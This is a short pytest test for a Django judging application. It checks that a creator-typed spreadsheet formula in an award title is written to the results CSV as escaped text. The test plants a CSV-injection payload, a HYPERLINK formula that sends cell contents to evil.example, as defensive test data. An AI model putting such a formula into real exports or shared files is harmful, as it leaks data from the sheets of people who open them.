"""The results' open data is CSV-injection safe like every CSV the project writes."""

import pytest
from django.urls import reverse
from django.utils import translation

from judging.models import ResultsSnapshot

pytestmark = pytest.mark.django_db


def test_a_creator_typed_formula_reaches_the_results_csv_as_text(client):
    from tests.judging.published import results_edition

    edition = results_edition()
    # The CSV reads the published snapshot: put a creator's formula-like title in it.
    snapshot = ResultsSnapshot.objects.get(cycle=edition.cycle, published_at__isnull=False)
    award = snapshot.data["awards"][0]
    award["entry"]["title"]["en"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ResultsSnapshot.objects.filter(pk=snapshot.pk).update(data=snapshot.data)

    with translation.override("en"):
        url = reverse("judging:results_csv", kwargs={"year": edition.cycle.festival_year})
    body = b"".join(client.get(url).streaming_content).decode()

    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in body
